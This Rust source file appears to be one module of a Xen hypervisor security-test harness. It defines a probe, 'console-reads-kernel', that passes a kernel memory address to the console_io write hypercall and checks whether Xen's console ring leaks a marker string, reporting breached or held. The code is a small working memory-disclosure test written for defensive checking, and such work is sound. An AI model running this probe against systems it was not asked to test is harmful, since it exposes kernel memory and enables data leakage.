//! The address of kernel memory as the input of a hypercall that prints it.

use super::{Attack, Level};
use crate::calls::number;
use crate::outcome::{Outcome, breached, held, not_applicable};
use crate::witness::{HostName, marker, version_works};
use crate::xen::Privcmd;

pub(super) const ATTACK: Attack = Attack {
    id: "console-reads-kernel",
    rule: "B10",
    level: Level::Confidentiality,
    summary: "console_io(write) with a kernel address as buffer: Xen prints kernel memory",
    needs: "privcmd; Xen booted with console_to_ring, or nobody inside can see what it printed",
    observed: "the kernel's host name, set to a marker, stands in Xen's console ring",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin: || version_works(&Privcmd::open()?),
};

fn run() -> Outcome {
    const WRITE: u64 = 0;
    let privcmd = Privcmd::open()?;
    let name = HostName::set(format!("{}\n", marker()).as_bytes())?;
    let (_, start) = privcmd.console_ring(None)?;
    let length = name.mark.len() as u64;
    let answer = privcmd.hypercall(number::CONSOLE_IO, [WRITE, length, name.address, 0, 0]);
    let (ring, _) = privcmd.console_ring(Some(start))?;
    let mark = String::from_utf8_lossy(&name.mark).trim().to_owned();
    match answer {
        _ if ring.contains(&mark) => breached(format!("Xen printed the kernel's memory: {mark:?}")),
        Ok(value) => not_applicable(format!(
            "Xen answered {value}: whether {mark:?} was printed is to be seen on the serial line only, because Xen \
             was booted without console_to_ring"
        )),
        Err(error) => held(format!("console_io: {error}")),
    }
}
